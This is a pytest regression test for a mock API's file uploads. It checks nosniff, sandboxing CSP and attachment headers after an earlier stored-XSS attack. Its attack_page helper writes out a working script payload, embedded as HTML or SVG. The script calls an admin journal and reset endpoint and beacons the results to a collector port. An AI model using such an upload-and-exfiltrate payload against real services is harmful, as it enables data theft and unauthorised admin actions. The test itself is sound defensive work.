"""Uploads are never active content on the mock's origin: every file answer carries `nosniff` and a
sandboxing CSP, and active types (HTML, SVG, XML, JavaScript...) are downloads, not pages.

The attack of issue 20: a page on any origin uploads `poster.png` as `text/html` (CORS lets it use a
key), then opens the upload's signed link. Served inline as HTML, that document ran on the mock's
origin, where the admin API's browser guards (Origin, Sec-Fetch-Site) see a same-origin page: it read
/_mock/journal and reset the store. Checked in a real browser (Debian's chromium, headless): the
page's script would report what it managed to a collector on another loopback port.
"""

from __future__ import annotations

import contextlib
import http.server
import io
import os
import signal
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from tests.conformance.test_html_report import FLAGS, chromium
from tests.mock.conftest import AUTH, chat, events
from tests.mock.contract_check import CheckedClient

# (file name, content type the client sends): the extension is an allowed one, the type is active
ACTIVE = {
    "poster.png": "text/html",
    "poster.svg": "image/svg+xml",
    "page.html": "application/xhtml+xml",
    "note.xml": "text/xml",
    "still.gif": "application/octet-stream",  # typed by the extension: image/gif, but a page inside
    "notes.txt": "text/plain",  # shown inline as text: nosniff keeps the page inside a text
}


@contextlib.contextmanager
def collector() -> Iterator[tuple[int, list[str]]]:
    """A loopback server that records the paths of the requests it gets (the page's beacons)."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's naming
            seen.append(self.path.lstrip("/"))
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


def attack_page(collect: int, svg: bool = False) -> bytes:
    """A script that reports whether it ran, what GET /_mock/journal gave it and whether it reset."""
    script = (
        f"const beacon = (what) => {{ new Image().src = 'http://127.0.0.1:{collect}/' + what; }};"
        "beacon('ran');"
        "fetch('/_mock/journal')"
        ".then(r => r.text().then(t => beacon('journal-' + r.status + '-' + t.length)))"
        ".catch(() => beacon('journal-refused'));"
        "fetch('/_mock/reset', {method: 'POST'}).then(r => beacon('reset-' + r.status))"
        ".catch(() => beacon('reset-refused'));"
    )
    if svg:
        return (
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>'
            f"<![CDATA[{script}]]></script></svg>"
        ).encode()
    return f"<!doctype html><html><body><p>poster</p><script>{script}</script></body></html>".encode()


def open_in_chromium(url: str, tmp: Path, wait_s: float = 12.0) -> None:
    """Open `url` as a top-level page in headless chromium, give its script `wait_s` to run.

    A download (a file served as an attachment) aborts the navigation and leaves headless chromium
    waiting for ever, so the browser (its own process group) is ended after `wait_s` at the latest.
    """
    profile = tmp / f"profile-{len(list(tmp.iterdir()))}"
    args = [chromium(), *FLAGS, f"--user-data-dir={profile}", "--virtual-time-budget=4000", "--dump-dom", url]
    proc = subprocess.Popen(
        args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    try:
        proc.wait(timeout=wait_s)
    except subprocess.TimeoutExpired:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)  # the group of the browser this test started
        proc.wait(timeout=10)


def _upload(base: str, name: str, ctype: str, data: bytes, user: str) -> dict:
    files = {"file": (name, data, ctype)}
    form = {"user": user}
    resp = requests.post(f"{base}/v1/files/upload", headers=AUTH, files=files, data=form, timeout=10)
    assert resp.status_code == 201, resp.text
    return resp.json()


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_an_uploaded_page_cannot_use_the_admin_api_in_a_browser(live_server, tmp_path, name) -> None:
    base = live_server()
    kept = requests.post(
        f"{base}/v1/chat-messages",
        headers=AUTH,
        json={"inputs": {"book": "x"}, "query": "hello", "user": "kept"},
        timeout=10,
    )
    assert kept.status_code == 200
    with collector() as (port, beacons):
        svg = ACTIVE[name] not in ("text/html", "text/plain") and not name.endswith(".gif")
        record = _upload(base, name, ACTIVE[name], attack_page(port, svg=svg), "attacker")
        open_in_chromium(record["source_url"], tmp_path)
    assert not [b for b in beacons if b.startswith(("journal-200", "reset-200"))], beacons
    assert "ran" not in beacons, f"the uploaded {ACTIVE[name]} ran as a page on the mock's origin: {beacons}"
    after = requests.get(f"{base}/v1/conversations", params={"user": "kept"}, headers=AUTH, timeout=10)
    assert len(after.json()["data"]) == 1, "the store was reset"


# ---------- the headers of every file answer (no browser needed) ----------


def _answers_of(client, name: str, ctype: str) -> dict[str, object]:
    """The signed link, the API preview and the API download of one upload (attached to a message)."""
    from urllib.parse import urlsplit

    record = client.post(
        "/v1/files/upload",
        data={"file": (io.BytesIO(b"<html></html>"), name, ctype), "user": "u1"},
        headers=AUTH,
        content_type="multipart/form-data",
    ).json
    kind = "image" if name.endswith((".png", ".svg")) else "document"
    chat(client, files=[{"type": kind, "transfer_method": "local_file", "upload_file_id": record["id"]}])
    link = urlsplit(record["source_url"])
    return {
        "signed link": client.client.get(f"{link.path}?{link.query}"),
        "preview": client.get(f"/v1/files/{record['id']}/preview", headers=AUTH),
        "download": client.get(f"/v1/files/{record['id']}/preview?as_attachment=true", headers=AUTH),
    }


@pytest.mark.parametrize(
    ("name", "ctype", "inline"),
    [("poster.png", "image/png", True), ("poster.png", "text/html", False), ("a.svg", "image/svg+xml", False),
     ("a.html", "text/html", False), ("a.xml", "application/xml", False), ("a.txt", "text/plain", True),
     ("a.pdf", "application/pdf", False), ("a.md", "text/markdown", False)],
)  # fmt: skip
def test_every_file_answer_is_sniff_proof_sandboxed_and_active_types_download(client, name, ctype, inline):
    for what, resp in _answers_of(client, name, ctype).items():
        assert resp.status_code == 200, (what, resp.get_data()[:200])
        assert resp.headers["X-Content-Type-Options"] == "nosniff", what
        assert resp.headers["Content-Security-Policy"].startswith("sandbox"), what
        assert "default-src 'none'" in resp.headers["Content-Security-Policy"], what
        disposition = resp.headers["Content-Disposition"]
        if inline and what != "download":
            assert disposition == "inline", (what, disposition)
        else:
            assert disposition.startswith("attachment; filename*=UTF-8''"), (what, disposition)


def test_files_an_answer_made_are_served_the_same_way(make_app) -> None:
    """The agent app's answers carry a file of their own (a tool file): its link is a file answer too."""
    from urllib.parse import urlsplit

    client = CheckedClient(make_app())
    body = {"inputs": {"book": "x"}, "query": "Show me the Die Hard poster", "user": "tool-files"}
    body["response_mode"] = "streaming"
    resp = client.post("/v1/chat-messages", json=body, headers={"Authorization": "Bearer app-mock-agent-key"})
    links = [e["url"] for e in events(resp) if e.get("event") == "message_file"]
    assert links, "the agent app's answer carries a file"
    url = urlsplit(links[0])
    served = client.client.get(f"{url.path}?{url.query}")
    assert served.status_code == 200 and served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"].startswith("sandbox")
